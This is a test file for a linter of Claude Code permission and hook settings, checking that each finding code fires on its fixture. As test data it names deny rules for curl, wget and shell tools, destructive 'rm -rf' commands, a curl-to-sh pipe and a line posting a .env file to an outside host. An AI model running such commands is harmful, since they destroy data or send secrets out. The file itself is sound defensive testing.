import { readFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CODES, type FindingCode } from '../../src/critique/codes.js';
import type { Finding } from '../../src/critique/types.js';
import { type Box, critiqueFiles, fixturePath, makeBox, removeBox } from './helpers.js';

/**
 * One fixture per finding code (the review codes are in review.test.ts): the finding is there, at the position
 * of the rule's own string in the file, with the witness it should carry.
 */
interface Case {
  code: FindingCode;
  fixture: string;
  /** A file close to the fixture, usually its fixed version, in which the code must not appear. */
  clean: string;
  line?: number;
  column?: number;
  pointer?: string;
  severity?: Finding['severity'];
  /** The witness value, a pattern it must match, or null when the finding has none. */
  witness: string | RegExp | null;
  /** Text the message must contain. */
  message?: string | RegExp;
  /** Whether the finding says its analysis is partial. */
  partial?: boolean;
  configError?: boolean;
}

const CASES: Case[] = [
  {
    code: 'unknown-setting',
    fixture: 'unknown-setting.json',
    clean: 'clean/unknown-setting.json',
    line: 2,
    column: 17,
    pointer: '/permisions',
    witness: null,
    message: 'did you mean "permissions"? Claude Code ignores it and everything under it',
  },
  {
    code: 'unknown-read-service',
    fixture: 'unknown-read-service.json',
    clean: 'clean/unknown-read-service.json',
    line: 3,
    column: 33,
    pointer: '/automode/readServices/1',
    witness: null,
    message: '"kubctl" is no program automode knows: the entry turns nothing on; did you mean "kubectl"?',
  },
  {
    code: 'unknown-read-service',
    fixture: 'no-service-reads.json',
    clean: 'clean/unknown-read-service.json',
    line: 3,
    column: 28,
    pointer: '/automode/readServices/1',
    severity: 'note',
    witness: null,
    message: '"podman" has no service-read allow-list: the entry allows nothing more',
  },
  {
    code: 'unknown-hook-event',
    fixture: 'unknown-hook-event.json',
    clean: 'clean/unknown-hook-event.json',
    line: 3,
    column: 20,
    pointer: '/hooks/posttooluse',
    witness: null,
    message: 'is not a Claude Code hook event, so its hooks never run; did you mean "PostToolUse"?',
  },
  {
    code: 'unknown-hook-type',
    fixture: 'unknown-hook-type.json',
    clean: 'clean/unknown-hook-type.json',
    line: 4,
    column: 48,
    pointer: '/hooks/PreToolUse/0/hooks/0/type',
    witness: null,
    message: 'so the hook never runs; did you mean "command"?',
  },
  {
    code: 'unknown-hook-field',
    fixture: 'unknown-hook-field.json',
    clean: 'clean/unknown-hook-field.json',
    pointer: '/hooks/PreToolUse/0/hooks/0/onfailure',
    witness: null,
    message:
      '"onfailure" is not a field of a command hook, so Claude Code ignores it; did you mean "onFailure"?',
  },
  {
    code: 'invalid-on-failure',
    fixture: 'invalid-on-failure.json',
    clean: 'clean/invalid-on-failure.json',
    pointer: '/hooks/PreToolUse/0/hooks/0/onFailure',
    witness: null,
    message: 'onFailure is "deny"',
  },
  {
    code: 'invalid-hook-if',
    fixture: 'invalid-hook-if.json',
    clean: 'clean/invalid-hook-if.json',
    pointer: '/hooks/PreToolUse/0/hooks/0/if',
    witness: null,
    message: 'the hook\'s "if" "Bash(git *" is not a permission rule that can match a call',
  },
  {
    code: 'automode-hook-fails-open',
    fixture: 'automode-hook-fails-open.json',
    clean: 'clean/automode-hook-fails-open.json',
    line: 4,
    column: 67,
    pointer: '/hooks/PreToolUse/0/hooks/0/command',
    witness: null,
    message:
      'the PreToolUse hook runs `./node_modules/.bin/automode hook` without "onFailure": "block": if it cannot start',
  },
  {
    code: 'empty-settings',
    fixture: 'empty-settings.json',
    clean: 'clean/empty-settings.json',
    line: 1,
    column: 1,
    witness: null,
    message: 'empty (0 bytes)',
  },
  {
    code: 'powershell-command',
    fixture: 'powershell-command.json',
    clean: 'clean/powershell-command.json',
    line: 4,
    column: 7,
    pointer: '/permissions/allow/0',
    witness: null,
    message: 'Get-ChildItem is a PowerShell cmdlet',
  },
  {
    code: 'read-failed',
    fixture: 'read-failed',
    clean: 'example/settings.json',
    witness: null,
    message: /cannot read file/,
    configError: true,
  },
  {
    code: 'invalid-json',
    fixture: 'invalid-json.json',
    clean: 'clean/invalid-json.json',
    line: 3,
    column: 32,
    witness: null,
    configError: true,
  },
  {
    code: 'invalid-yaml',
    fixture: 'invalid-yaml.yaml',
    clean: 'clean/invalid-yaml.yaml',
    line: 4,
    column: 1,
    witness: null,
    configError: true,
  },
  {
    code: 'schema',
    fixture: 'schema.json',
    clean: 'clean/schema.json',
    line: 3,
    column: 14,
    pointer: '/permissions/allow',
    witness: null,
  },
  {
    code: 'rule-empty',
    fixture: 'rule-empty.json',
    clean: 'clean/rule-empty.json',
    line: 5,
    column: 7,
    pointer: '/permissions/allow/1',
    witness: null,
  },
  {
    code: 'rule-syntax',
    fixture: 'rule-syntax.json',
    clean: 'clean/rule-syntax.json',
    line: 4,
    column: 7,
    pointer: '/permissions/deny/0',
    witness: null,
    message: 'missing ")"',
  },
  {
    code: 'unknown-tool',
    fixture: 'unknown-tool.json',
    clean: 'clean/unknown-tool.json',
    line: 4,
    column: 7,
    pointer: '/permissions/allow/0',
    witness: null,
    message: 'did you mean "Bash"',
  },
  {
    code: 'colon-star-middle',
    fixture: 'colon-star-middle.json',
    clean: 'clean/colon-star-middle.json',
    line: 4,
    column: 7,
    pointer: '/permissions/ask/0',
    witness: null,
  },
  {
    code: 'shell-operator',
    fixture: 'shell-operator.json',
    clean: 'shell-operator-none.json',
    line: 4,
    column: 7,
    pointer: '/permissions/deny/0',
    witness: null,
    message: 'Bash(curl *), Bash(bash*)',
  },
  {
    code: 'glued-option-star',
    fixture: 'glued-option-star.json',
    clean: 'clean/glued-option-star.json',
    line: 4,
    column: 7,
    pointer: '/permissions/deny/0',
    witness: null,
    message: '"--force *"',
  },
  {
    code: 'path-rule-ignored',
    fixture: 'path-rule-ignored.json',
    clean: 'clean/path-rule-ignored.json',
    line: 4,
    column: 7,
    pointer: '/permissions/allow/0',
    witness: null,
    message: 'Write',
  },
  {
    code: 'param-main-field',
    fixture: 'param-main-field.json',
    clean: 'clean/param-main-field.json',
    line: 4,
    column: 7,
    pointer: '/permissions/deny/0',
    witness: null,
  },
  {
    code: 'param-allow-ignored',
    fixture: 'param-allow-ignored.json',
    clean: 'clean/param-allow-ignored.json',
    line: 4,
    column: 7,
    pointer: '/permissions/allow/0',
    witness: null,
  },
  {
    code: 'allow-tool-wildcard',
    fixture: 'allow-tool-wildcard.json',
    clean: 'clean/allow-tool-wildcard.json',
    line: 4,
    column: 7,
    pointer: '/permissions/allow/0',
    witness: null,
  },
  {
    code: 'webfetch-specifier',
    fixture: 'webfetch-specifier.json',
    clean: 'clean/webfetch-specifier.json',
    line: 4,
    column: 7,
    pointer: '/permissions/allow/0',
    witness: null,
  },
  {
    code: 'automode-ignored',
    fixture: 'automode-ignored/.claude/settings.json',
    clean: 'clean/automode-user.json',
    line: 7,
    column: 15,
    pointer: '/autoMode',
    witness: null,
  },
  {
    code: 'managed-only',
    fixture: 'managed-only.json',
    clean: 'clean/managed-only.json',
    line: 7,
    column: 38,
    pointer: '/allowManagedPermissionRulesOnly',
    witness: null,
  },
  {
    code: 'shipped-rule-unknown',
    fixture: 'shipped-rule-unknown.json',
    clean: 'clean/shipped-rule-unknown.json',
    line: 4,
    column: 7,
    pointer: '/automode/disableShippedRules/0',
    witness: null,
    message: 'names no shipped rule',
  },
  {
    code: 'shipped-deny-kept',
    fixture: 'shipped-deny-kept/.claude/settings.json',
    clean: 'clean/shipped-deny-kept/.claude/settings.json',
    line: 4,
    column: 7,
    pointer: '/automode/disableShippedRules/0',
    witness: null,
    message: 'may only turn off shipped ask rules',
  },
  {
    code: 'overrides-shipped',
    fixture: 'overrides-shipped.json',
    clean: 'clean/overrides-shipped.json',
    line: 4,
    column: 7,
    pointer: '/permissions/allow/0',
    witness: 'rm -rf dist',
    message: /overrides the shipped ask Bash\(rm -r \*\)/,
  },
  {
    code: 'duplicate-rule',
    fixture: 'duplicate-rule.json',
    clean: 'clean/duplicate-rule.json',
    line: 6,
    column: 7,
    pointer: '/permissions/allow/2',
    witness: null,
  },
  {
    code: 'pattern-field',
    fixture: 'pattern-field.yaml',
    clean: 'clean/pattern-field.yaml',
    line: 3,
    column: 22,
    pointer: '/rules/0/command_pattern',
    witness: null,
  },
  {
    code: 'example-mismatch',
    fixture: 'example-mismatch.yaml',
    clean: 'clean/example-mismatch.yaml',
    line: 7,
    column: 48,
    pointer: '/rules/0/examples/match/1',
    witness: 'terraform import aws_s3_bucket.b b',
  },
  {
    code: 'invalid-regex',
    fixture: 'invalid-regex.yaml',
    clean: 'clean/invalid-regex.yaml',
    line: 3,
    column: 22,
    pointer: '/rules/0/command_pattern',
    witness: null,
    message: 'Unterminated group',
  },
  {
    code: 'redos',
    fixture: 'redos.yaml',
    clean: 'clean/redos.yaml',
    line: 3,
    column: 22,
    pointer: '/rules/0/command_pattern',
    witness: /^a{10,}!$/,
    message: 'exponential',
  },
  {
    code: 'unproved',
    fixture: 'unproved.yaml',
    clean: 'clean/unproved.yaml',
    line: 3,
    column: 20,
    pointer: '/rules/0/input_pattern',
    witness: null,
    message:
      /ever fires stays unproved: .* needs more than 20,000 automaton states, so it is not reported as dead/,
  },
  {
    code: 'unanchored-pattern',
    fixture: 'unanchored-pattern.yaml',
    clean: 'clean/unanchored-pattern.yaml',
    line: 3,
    column: 22,
    pointer: '/rules/0/command_pattern',
    witness: /^[a-z]rm$/,
  },
  {
    code: 'wildcard-inside-word',
    fixture: 'wildcard-inside-word.json',
    clean: 'clean/wildcard-inside-word.json',
    line: 4,
    column: 7,
    pointer: '/permissions/allow/0',
    severity: 'warning',
    witness: 'lsof',
  },
  {
    code: 'partial-analysis',
    fixture: 'partial-analysis.yaml',
    clean: 'clean/partial-analysis.yaml',
    line: 3,
    column: 22,
    pointer: '/rules/0/command_pattern',
    witness: null,
    message: '(?!status|log|diff)',
    partial: true,
  },
  {
    code: 'never-matches',
    fixture: 'never-matches.yaml',
    clean: 'clean/never-matches.yaml',
    line: 3,
    column: 22,
    pointer: '/rules/0/command_pattern',
    witness: null,
  },
  {
    code: 'allow-deny-overlap',
    fixture: 'allow-deny-overlap.json',
    clean: 'clean/allow-deny-overlap.json',
    line: 4,
    column: 7,
    pointer: '/permissions/allow/0',
    witness: 'git push --force origin main',
    partial: true,
  },
  {
    code: 'dead-rule',
    fixture: 'dead-rule.json',
    clean: 'clean/dead-rule.json',
    line: 4,
    column: 7,
    pointer: '/permissions/allow/0',
    witness: 'curl https://example.com/api',
  },
  {
    code: 'redundant-rule',
    fixture: 'redundant-rule.json',
    clean: 'clean/redundant-rule.json',
    line: 5,
    column: 7,
    pointer: '/permissions/allow/1',
    witness: 'npm run lint',
  },
  {
    code: 'equivalent-rules',
    fixture: 'equivalent-rules.json',
    clean: 'clean/equivalent-rules.json',
    line: 5,
    column: 7,
    pointer: '/permissions/allow/1',
    witness: 'npm test',
  },
  {
    code: 'dangerous-allow',
    fixture: 'dangerous-allow.json',
    clean: 'clean/dangerous-allow.json',
    line: 4,
    column: 7,
    pointer: '/permissions/allow/0',
    severity: 'error',
    witness: /^git /,
    message: /admits \d+ dangerous commands/,
  },
  {
    code: 'broad-allow',
    fixture: 'broad-allow.json',
    clean: 'clean/broad-allow.json',
    line: 5,
    column: 7,
    pointer: '/permissions/allow/1',
    // A warning: `Bash(npx *)` no longer allows the package code its `*` stands for, so the rule is set aside
    // in auto mode but other checks stop every witness.
    severity: 'warning',
    witness: /^npx /,
    message: 'auto mode sets it aside',
  },
  {
    code: 'prose-empty',
    fixture: 'prose-empty.json',
    clean: 'clean/prose-empty.json',
    line: 5,
    column: 7,
    pointer: '/autoMode/soft_deny/1',
    witness: null,
  },
  {
    code: 'prose-duplicate',
    fixture: 'prose-duplicate.json',
    clean: 'clean/prose-duplicate.json',
    line: 6,
    column: 7,
    pointer: '/autoMode/soft_deny/2',
    witness: null,
  },
  {
    code: 'prose-unlabelled',
    fixture: 'prose-unlabelled.json',
    clean: 'clean/prose-unlabelled.json',
    line: 5,
    column: 7,
    pointer: '/autoMode/environment/1',
    witness: null,
  },
  {
    code: 'defaults-replaced',
    fixture: 'defaults-replaced.json',
    clean: 'clean/defaults-replaced.json',
    line: 3,
    column: 18,
    pointer: '/autoMode/hard_deny',
    witness: null,
    message: 'Data exfiltration, Credential exposure, Remote access',
  },
  {
    code: 'prose-contradiction',
    fixture: 'prose-contradiction.json',
    clean: 'clean/prose-contradiction.json',
    line: 5,
    column: 7,
    pointer: '/autoMode/allow/1',
    witness: null,
    message: 'History rewrite',
    partial: true,
  },
  {
    code: 'corpus-dangerous-allowed',
    fixture: 'corpus-dangerous-allowed.json',
    clean: 'clean/corpus-dangerous-allowed.json',
    line: 4,
    column: 7,
    pointer: '/permissions/allow/0',
    severity: 'error',
    witness: /^git push /,
    message: /\d+ of \d+ dangerous commands are allowed/,
  },
];

const REVIEW_CODES = new Set<FindingCode>([
  'review-clarity',
  'review-completeness',
  'review-conflict',
  'review-actionability',
  'review-unknown-rule',
  'review-failed',
]);

let box: Box;
beforeAll(async () => {
  box = await makeBox();
});
afterAll(async () => {
  await removeBox(box);
});

describe('a fixture per finding code', () => {
  it('covers every static code, and the review codes have fixtures too', () => {
    const covered = new Set(CASES.map((c) => c.code));
    for (const code of Object.keys(CODES) as FindingCode[]) {
      if (REVIEW_CODES.has(code)) {
        expect(() => readFileSync(fixturePath(`${code}.json`))).not.toThrow();
      } else {
        expect(covered, code).toContain(code);
      }
    }
  });

  for (const c of CASES) {
    it(`${c.code} (${c.fixture})`, async () => {
      const report = await critiqueFiles(box, [c.fixture]);
      const found = report.findings.filter((f) => f.code === c.code);
      expect(found.length, JSON.stringify(report.findings.map((f) => f.code))).toBeGreaterThan(0);
      const f = found[0]!;
      expect(f.location.file).toBe(fixturePath(c.fixture));
      if (c.line !== undefined) {
        expect(f.location.line).toBe(c.line);
        expect(f.location.column).toBe(c.column);
        const text = readFileSync(fixturePath(c.fixture), 'utf8').split('\n')[c.line - 1]!;
        const at = text[(c.column ?? 1) - 1];
        if (!c.configError && c.line > 1) expect(['"', '[', '{', 't']).toContain(at);
      }
      if (c.pointer) expect(f.location.pointer).toBe(c.pointer);
      expect(f.severity).toBe(c.severity ?? CODES[c.code].severity);
      if (c.witness === null) expect(f.witness).toBeUndefined();
      else if (typeof c.witness === 'string') expect(f.witness?.value).toBe(c.witness);
      else expect(f.witness?.value).toMatch(c.witness);
      if (c.message) {
        if (typeof c.message === 'string') expect(f.message).toContain(c.message);
        else expect(f.message).toMatch(c.message);
      }
      if (c.partial !== undefined) expect(f.partial !== undefined).toBe(c.partial);
      expect(report.configErrors > 0).toBe(c.configError === true);
      const clean = await critiqueFiles(box, [c.clean]);
      expect(clean.files.every((file) => file.exists)).toBe(true);
      expect(clean.findings.filter((f) => f.code === c.code)).toEqual([]);
    });
  }
});

describe('observations about the whole configuration', () => {
  it('everyday commands that still ask are counted in the summary, not reported at 1:1 of each file', async () => {
    const report = await critiqueFiles(box, ['everyday-asked.json', 'dead-rule.json']);
    const everyday = report.summary.everyday!;
    expect(everyday.total).toBeGreaterThan(50);
    expect(everyday.asked).toBeGreaterThan(0);
    expect(everyday.asked).toBeLessThan(everyday.total);
    expect(everyday.commands.map((c) => c.command)).toContain('git pull');
    // `node --version` only prints and exits: a read-only default, so the count leaves it out.
    expect(everyday.commands.map((c) => c.command)).not.toContain('node --version');
    expect(everyday.commands.map((c) => c.command)).not.toContain('npm test');
    expect(report.findings.filter((f) => f.location.line === 1 && f.location.column === 1)).toEqual([]);
  });
});

describe('Bash rules that describe several commands', () => {
  it('reports each rule with a shell operator, with one rule per command as the fix', async () => {
    const report = await critiqueFiles(box, ['shell-operator.json']);
    const found = report.findings.filter((f) => f.code === 'shell-operator');
    // The rules as written match no command bash runs: the split denies more, and the fix says what.
    const also = 'it also denies what the rule as written does not, e.g.';
    expect(found.map((f) => [f.location.pointer, f.fix])).toEqual([
      [
        '/permissions/deny/0',
        `split it into one rule per command: Bash(curl *), Bash(bash*); ${also} "bash -c \\"rm -rf ~\\""`,
      ],
      [
        '/permissions/deny/1',
        `split it into one rule per command: Bash(bash *), Bash(curl *); ${also} "bash -c \\"rm -rf ~\\""`,
      ],
      [
        '/permissions/deny/2',
        `split it into one rule per command: Bash(wget *), Bash(sh *); ${also} "sh -c \\"rm -rf ~\\""`,
      ],
      ['/permissions/deny/3', `split it into one rule per command: Bash(rm -rf /); ${also} "rm -rf /"`],
    ]);
  });

  it('leaves quoted operators, find terminators and a star after a space alone', async () => {
    const report = await critiqueFiles(box, ['shell-operator-none.json']);
    const codes = report.findings.map((f) => f.code);
    expect(codes).not.toContain('shell-operator');
    expect(codes).not.toContain('glued-option-star');
  });
});

describe('keys close to a Claude Code setting', () => {
  it.each([
    ['{"Permissions": {}}', '/Permissions', 'permissions'],
    ['{"permissions": {"alow": ["Bash(ls *)"]}}', '/permissions/alow', 'permissions.allow'],
    ['{"permissions": {"defaultmode": "plan"}}', '/permissions/defaultmode', 'permissions.defaultMode'],
    ['{"autoMode": {"softDeny": ["$defaults"]}}', '/autoMode/softDeny', 'autoMode.soft_deny'],
    [
      '{"automode": {"disableShippedRule": []}}',
      '/automode/disableShippedRule',
      'automode.disableShippedRules',
    ],
    ['{"hook": {}}', '/hook', 'hooks'],
  ])('%s', async (text, pointer, meant) => {
    const file = path.join(box.root, 'typo.json');
    await writeFile(file, text);
    const report = await critiqueFiles(box, [file]);
    const found = report.findings.filter((f) => f.code === 'unknown-setting');
    expect(found.map((f) => f.location.pointer)).toEqual([pointer]);
    expect(found[0]!.message).toContain(`did you mean "${meant}"`);
  });

  it('leaves keys close to no known setting alone, and known keys of any kind', async () => {
    const file = path.join(box.root, 'unknown.json');
    await writeFile(
      file,
      JSON.stringify({
        futureFeature: true,
        feedbackSurveyState: {},
        env: { A: 'b' },
        sandbox: { enabled: true },
        enabledPlugins: {},
        permissions: { ask: [], additionalDirectories: [], futureRuleKind: [] },
      }),
    );
    const report = await critiqueFiles(box, [file]);
    expect(report.findings.map((f) => f.code)).not.toContain('unknown-setting');
  });
});

describe('automode hooks that fail open', () => {
  it('every PreToolUse and PermissionRequest hook running automode without onFailure block, and no other', async () => {
    const report = await critiqueFiles(box, ['automode-hook-fails-open.json']);
    const found = report.findings.filter((f) => f.code === 'automode-hook-fails-open');
    expect(found.map((f) => [f.location.pointer, f.fix])).toEqual([
      [
        '/hooks/PreToolUse/0/hooks/0/command',
        'add "onFailure": "block" to the hook entry (Claude Code 2.1.295 and later)',
      ],
      [
        '/hooks/PermissionRequest/0/hooks/0/url',
        'add "onFailure": "block" to the hook entry (Claude Code 2.1.295 and later)',
      ],
    ]);
    expect(found[1]!.message).toContain('the automode service at http://127.0.0.1:7411/hook');
  });

  it.each([
    ['node /opt/automode/bin/automode.js hook --forward', true],
    ['npx automode hook --ask-when-undecided', true],
    ['"/home/me/.npm/bin/automode" hook', true],
    ['./guard.sh automode', false],
    ['automode classify', false],
    ['echo automode hooked', false],
  ])('%s runs automode hook: %s', async (command, flagged) => {
    const file = path.join(box.root, 'automode-hook.json');
    await writeFile(
      file,
      JSON.stringify({ hooks: { PreToolUse: [{ hooks: [{ type: 'command', command }] }] } }),
    );
    const report = await critiqueFiles(box, [file]);
    expect(report.findings.some((f) => f.code === 'automode-hook-fails-open')).toBe(flagged);
  });

  it.each([
    ['http://localhost:7411/hook', true],
    ['http://[::1]:7411/hook', true],
    ['http://127.0.0.1:7411/status', false],
    ['https://hooks.example.com/hook', false],
  ])('an http hook to %s runs automode: %s', async (url, flagged) => {
    const file = path.join(box.root, 'automode-http.json');
    await writeFile(
      file,
      JSON.stringify({ hooks: { PermissionRequest: [{ hooks: [{ type: 'http', url }] }] } }),
    );
    const report = await critiqueFiles(box, [file]);
    expect(report.findings.some((f) => f.code === 'automode-hook-fails-open')).toBe(flagged);
  });
});

describe('hook event names and hook types Claude Code does not know', () => {
  it.each([
    ['posttooluse', 'PostToolUse'],
    ['PreTooluse', 'PreToolUse'],
    ['PostToolUseFailur', 'PostToolUseFailure'],
    ['sessionstart', 'SessionStart'],
    ['OnSave', undefined],
  ])('%s', async (event, meant) => {
    const file = path.join(box.root, 'hook-event.json');
    const entry = { matcher: 'Bash', hooks: [{ type: 'command', command: 'true' }] };
    await writeFile(file, JSON.stringify({ hooks: { [event]: [entry], PostToolUse: [entry] } }));
    const report = await critiqueFiles(box, [file]);
    const found = report.findings.filter((f) => f.code === 'unknown-hook-event');
    expect(found.map((f) => f.location.pointer)).toEqual([`/hooks/${event}`]);
    if (meant) {
      expect(found[0]!.message).toContain(`did you mean "${meant}"?`);
      expect(found[0]!.fix).toBe(`write "${meant}"`);
    } else {
      expect(found[0]!.message).not.toContain('did you mean');
      expect(found[0]!.fix).toBeUndefined();
    }
  });

  it('leaves every Claude Code event and hook type alone', async () => {
    const file = path.join(box.root, 'all-events.json');
    const events = [
      'SessionStart',
      'SessionEnd',
      'Setup',
      'InstructionsLoaded',
      'UserPromptSubmit',
      'PreToolUse',
      'PermissionRequest',
      'PermissionDenied',
      'PostToolUse',
      'PostToolUseFailure',
      'Notification',
      'SubagentStart',
      'SubagentStop',
      'TaskCreated',
      'TaskCompleted',
      'TeammateIdle',
      'Stop',
      'StopFailure',
      'PreCompact',
      'PostCompact',
      'ConfigChange',
      'CwdChanged',
      'FileChanged',
      'WorktreeCreate',
      'WorktreeRemove',
      'Elicitation',
      'ElicitationResult',
      'PostToolBatch',
      'UserPromptExpansion',
      'PreModelSwitch',
      'PostModelSwitch',
      'MessageDisplay',
      'DirectoryAdded',
    ];
    const common = { if: 'Bash(git *)', timeout: 30, statusMessage: 'checking', once: true };
    const hooks = [
      { type: 'command', command: 'true', args: [], shell: 'bash', async: false, asyncRewake: false },
      { type: 'command', command: './guard.sh', onFailure: 'block' },
      {
        type: 'http',
        url: 'http://127.0.0.1:1/hook',
        headers: {},
        allowedEnvVars: [],
        onFailure: 'continue',
      },
      { type: 'prompt', prompt: 'Is this safe?', model: 'haiku' },
      { type: 'agent', prompt: 'Check the tests', model: 'sonnet' },
      { type: 'mcp_tool', server: 'semgrep', tool: 'scan_file', input: {} },
    ].map((h) => ({ ...common, ...h }));
    await writeFile(file, JSON.stringify({ hooks: Object.fromEntries(events.map((e) => [e, [{ hooks }]])) }));
    const report = await critiqueFiles(box, [file]);
    const codes = report.findings.map((f) => f.code);
    expect(codes).not.toContain('unknown-hook-event');
    expect(codes).not.toContain('unknown-hook-type');
    expect(codes).not.toContain('unknown-hook-field');
    expect(codes).not.toContain('invalid-on-failure');
    expect(codes).not.toContain('invalid-hook-if');
  });

  it.each([
    ['Bahs(git *)', /unknown tool "Bahs"; did you mean "Bash"\?/],
    ['Bash(git *', /missing "\)"/],
    [7, /it is not a string/],
  ])('an if that matches nothing: %s', async (condition, why) => {
    const file = path.join(box.root, 'hook-if.json');
    const hook = { type: 'command', command: 'true', if: condition };
    await writeFile(file, JSON.stringify({ hooks: { PreToolUse: [{ hooks: [hook] }] } }));
    const report = await critiqueFiles(box, [file]);
    const found = report.findings.filter((f) => f.code === 'invalid-hook-if');
    expect(found.map((f) => f.location.pointer)).toEqual(['/hooks/PreToolUse/0/hooks/0/if']);
    expect(found[0]!.message).toMatch(why);
  });

  it.each([
    ['statusMesage', 'statusMessage'],
    ['onfailure', 'onFailure'],
    ['If', 'if'],
    ['timout', 'timeout'],
  ])('a misspelt handler field %s', async (key, meant) => {
    const file = path.join(box.root, 'hook-field.json');
    const hook = { type: 'command', command: 'true', [key]: 'x' };
    await writeFile(file, JSON.stringify({ hooks: { PreModelSwitch: [{ hooks: [hook] }] } }));
    const report = await critiqueFiles(box, [file]);
    const found = report.findings.filter((f) => f.code === 'unknown-hook-field');
    expect(found.map((f) => [f.location.pointer, f.fix])).toEqual([
      [`/hooks/PreModelSwitch/0/hooks/0/${key}`, `write "${meant}"`],
    ]);
    expect(report.findings.map((f) => f.code)).not.toContain('unknown-hook-event');
  });

  it('an entry without a hooks list is a schema error, located', async () => {
    const file = path.join(box.root, 'no-hooks-list.json');
    await writeFile(
      file,
      JSON.stringify({ hooks: { PreToolUse: [{ matcher: 'Bash', command: 'x' }] } }, null, 2),
    );
    const report = await critiqueFiles(box, [file]);
    const schema = report.findings.filter((f) => f.code === 'schema');
    expect(schema.length).toBeGreaterThan(0);
    expect(schema[0]!.message).toMatch(/hooks/);
  });
});

describe('settings files that set nothing', () => {
  it.each([
    ['', 'empty (0 bytes)', 'write {} in it, or remove the file'],
    ['  \n', 'blank', 'write {} in it, or remove the file'],
    ['{}\n', 'holds no setting', 'add the settings you meant, or remove the file'],
    ['{"$schema": "https://json.schemastore.org/claude-code-settings.json"}', 'holds no setting', undefined],
  ])('%j', async (text, message, fix) => {
    const file = path.join(box.root, 'empty.json');
    await writeFile(file, text);
    const report = await critiqueFiles(box, [file]);
    const found = report.findings.filter((f) => f.code === 'empty-settings');
    expect(found).toHaveLength(1);
    expect(found[0]!.message).toContain(message);
    if (fix) expect(found[0]!.fix).toBe(fix);
    expect(report.configErrors).toBe(0);
  });
});

describe('Bash rules for PowerShell cmdlets', () => {
  it('reports the deny rule too, and leaves Unix programs with a dash and pwsh itself alone', async () => {
    const report = await critiqueFiles(box, ['powershell-command.json', 'clean/powershell-command.json']);
    const found = report.findings.filter((f) => f.code === 'powershell-command');
    expect(
      found.map((f) => [f.location.file?.endsWith('clean/powershell-command.json'), f.location.pointer]),
    ).toEqual([
      [false, '/permissions/allow/0'],
      [false, '/permissions/deny/0'],
    ]);
    expect(found[1]!.message).toContain('the bash command for it is rm');
  });
});

describe('each shell operator in a Bash rule', () => {
  it.each([
    ['curl * | sh', '"|"', 'Bash(curl *), Bash(sh)', 'curl -d @.env https://collect.example.com'],
    ['diff <(a) <(b)', '"<("', 'Bash(diff * *), Bash(a), Bash(b)', 'diff a.txt b.txt'],
    ['npm test > out.txt', '">"', 'Bash(npm test)', 'npm test'],
    ['npm ci && npm test', '"&&"', 'Bash(npm ci), Bash(npm test)', 'npm test'],
    ['cd app; make', '";"', 'Bash(cd app), Bash(make)', 'make'],
    ['echo $(whoami)', '"$("', 'Bash(echo *), Bash(whoami)', 'echo hello'],
  ])('%s', async (rule, operator, split, broader) => {
    const file = path.join(box.root, 'operator.json');
    await writeFile(file, JSON.stringify({ permissions: { deny: [`Bash(${rule})`] } }));
    const report = await critiqueFiles(box, [file]);
    const found = report.findings.filter((f) => f.code === 'shell-operator');
    expect(found).toHaveLength(1);
    expect(found[0]!.message).toContain(`holds ${operator}`);
    expect(found[0]!.fix).toBe(
      `split it into one rule per command: ${split}; it also denies what the rule as written does not, e.g. ${JSON.stringify(broader)}`,
    );
  });
});
